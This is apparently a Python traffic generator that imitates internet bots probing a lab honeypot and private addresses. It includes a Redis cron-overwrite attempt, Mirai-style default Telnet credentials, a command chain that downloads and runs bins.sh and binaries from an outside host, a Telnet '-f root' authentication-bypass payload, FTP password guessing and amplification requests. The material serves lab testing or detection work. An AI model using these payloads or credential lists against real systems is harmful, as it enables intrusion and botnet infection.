#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Probes of all sorts of services, as the bots of the internet make them: Remote Desktop, Redis, Modbus, VNC, SIP,
amplifiers, FTP guesses, SSH greetings, Telnet logins.

    probes.py --source ADDRESS … --seconds 200
"""
import argparse
import ftplib
import random
import socket
import struct
import time

SRV = "10.20.30."
POT = "10.20.50.10"


def tcp(source, host, port, parts, patience=2.0):
    try:
        with socket.create_connection((host, port), 4, (source, 0)) as s:
            s.settimeout(patience)
            for part in parts:
                if part is None:
                    s.recv(4096)
                else:
                    s.sendall(part)
            s.recv(4096)
    except OSError:
        pass


def udp(source, host, port, data, times=1):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((source, 0))
        for _ in range(times):
            try:
                s.sendto(data, (host, port))
            except OSError:
                pass


def remote_desktop(dice, source):
    cookie = b"Cookie: mstshash=" + dice.choice([b"Administr", b"admin", b"hello", b"ketoan"]) + b"\r\n\x01\x00\x08\x00\x03\x00\x00\x00"
    length = len(cookie) + 11
    tcp(source, SRV + "14", 3389, [struct.pack("!BBH", 3, 0, length) + bytes([length - 5, 0xE0, 0, 0, 0, 0, 0]) + cookie])


def redis(dice, source):
    tcp(source, SRV + "14", 6379, [b"INFO\r\n", None, b"CONFIG SET dir /var/spool/cron\r\n", None, b'CONFIG SET dbfilename root\r\n'])


def modbus(dice, source):
    read = struct.pack("!HHHBBHH", 1, 0, 6, 1, 3, 0, 1)
    write = struct.pack("!HHHBBHH", 2, 0, 6, 1, 6, dice.randrange(10), dice.randrange(1000))
    tcp(source, SRV + "15", 502, [read, None, write])


def vnc(dice, source):
    tcp(source, SRV + "15", 5900, [None, b"RFB 003.008\n", None, b"\x02", None, bytes(dice.randrange(256) for _ in range(16)), None])


def sip(dice, source):
    n = dice.randrange(100, 9999)
    text = (f"REGISTER sip:{SRV}15 SIP/2.0\r\nVia: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-{n}\r\nFrom: <sip:{n}@{SRV}15>;tag=a{n}\r\n"
            f"To: <sip:{n}@{SRV}15>\r\nCall-ID: {n}@{source}\r\nCSeq: 1 REGISTER\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n")
    udp(source, SRV + "15", 5060, text.encode())


def amplifiers(dice, source):
    host = SRV + str(dice.randrange(10, 16))
    question = struct.pack("!6H", dice.randrange(65536), 0x0100, 1, 0, 0, 0) + b"\x0atruong-hoc\x07example\x00\x00\xff\x00\x01"
    udp(source, SRV + "13", 53, question, 4)
    udp(source, host, 123, b"\x17\x00\x03\x2a" + bytes(4), 2)
    udp(source, host, 1900, b'M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\nMan: "ssdp:discover"\r\nST: ssdp:all\r\n\r\n', 2)
    udp(source, host, 11211, b"\0\x01\0\0\0\x01\0\0stats\r\n", 2)


def ftp_guesses(dice, source):
    try:
        link = ftplib.FTP(timeout=4, source_address=(source, 0))
        link.connect(SRV + "12", 21)
        for word in ("admin", "123456", "truonghoc", "ftp2026"):
            try:
                link.login(dice.choice(["admin", "root", "web"]), word)
            except ftplib.Error:
                pass
        link.close()
    except (OSError, EOFError):
        pass


def ftp_visit(dice, source):
    try:
        with ftplib.FTP(timeout=4, source_address=(source, 0)) as link:
            link.connect(SRV + "12", 21)
            link.login()
            link.retrlines("LIST", lambda _: None)
            link.retrbinary("RETR doc.txt", lambda _: None)
    except (OSError, EOFError, ftplib.Error):
        pass


def ssh_greeting(dice, source):
    host = dice.choice([POT, SRV + "13"])
    # A whole key exchange message that offers nothing; servers answer and hang up.
    names = [b"curve25519-sha256", b"ssh-ed25519", b"aes128-ctr", b"aes128-ctr", b"hmac-sha2-256", b"hmac-sha2-256", b"none", b"none", b"", b""]
    body = b"\x14" + bytes(16) + b"".join(struct.pack("!I", len(n)) + n for n in names) + b"\0" * 5
    pad = 8 - (len(body) + 5) % 8 + 8
    packet = struct.pack("!IB", len(body) + pad + 1, pad) + body + bytes(pad)
    tcp(source, host, 22, [b"SSH-2.0-Go\r\n", None, packet, None])


def ssh_garbage(dice, source):
    body = b"\x14" + bytes(9)
    pad = 8 - (len(body) + 5) % 8 + 8
    tcp(source, POT, 22, [b"SSH-2.0-libssh_0.9.6\r\n", None, struct.pack("!IB", len(body) + pad + 1, pad) + body + bytes(pad), None])


def telnet_guess(dice, source):
    pairs = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "admin"), ("root", "12345"), ("root", "anko"), ("root", "juantech"),
             ("support", "support"), ("root", "7ujMko0admin"), ("guest", "guest"), ("root", "Zte521")]
    commands = ["enable", "system", "shell", "sh", "/bin/busybox HDANG", "cat /proc/mounts; /bin/busybox HDANG",
                "cd /tmp || cd /var/run; wget http://192.88.99.60/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
                "tftp -g -l arm7 -r arm7 192.88.99.60", "/bin/busybox wget http://192.88.99.60/mips -O - > mips", "uname -a", "exit"]
    try:
        with socket.create_connection((POT, 23), 4, (source, 0)) as s:
            s.settimeout(3)
            s.recv(1024)
            for user, word in dice.sample(pairs, 3):
                s.sendall(user.encode() + b"\r\n")
                time.sleep(0.15)
                s.sendall(word.encode() + b"\r\n")
                time.sleep(0.4)
                if b"incorrect" not in s.recv(4096):
                    for command in commands:
                        s.sendall(command.encode() + b"\r\n")
                        time.sleep(0.12)
                    s.recv(4096)
                    break
    except OSError:
        pass


def telnet_environment(dice, source):
    # CVE-2026-24061: a user name beginning with -f in the NEW-ENVIRON option of Telnet.
    tcp(source, POT, 23, [None, b"\xff\xfb\x27", b"\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0", None, b"root\r\n", None, b"x\r\n", None, b"id\r\n", None, b"exit\r\n"])


def telnet_garbage(dice, source):
    tcp(source, POT, 23, [None, b"\xff\x01\x02\xff\x33", None])


def web_on_ssh(dice, source):
    tcp(source, POT, 22, [b"GET / HTTP/1.1\r\nHost: 10.20.50.10\r\n\r\n"])


PROBES = [(remote_desktop, 8), (redis, 5), (modbus, 4), (vnc, 4), (sip, 5), (amplifiers, 8), (ftp_guesses, 10), (ftp_visit, 2),
          (ssh_greeting, 10), (ssh_garbage, 2), (telnet_guess, 16), (telnet_environment, 1), (telnet_garbage, 1), (web_on_ssh, 1)]


def main():
    args = argparse.ArgumentParser()
    args.add_argument("--source", action="append", required=True)
    args.add_argument("--seconds", type=float, default=200)
    args.add_argument("--seed", type=int, default=4)
    args.add_argument("--only", help="one probe, once, from the first source")
    opt = args.parse_args()
    dice = random.Random(opt.seed)
    if opt.only:
        return globals()[opt.only](dice, opt.source[0])
    until = time.monotonic() + opt.seconds
    while time.monotonic() < until:
        dice.choices([p for p, _ in PROBES], [w for _, w in PROBES])[0](dice, dice.choice(opt.source))
        time.sleep(dice.uniform(0, 0.3))
    return None


main()
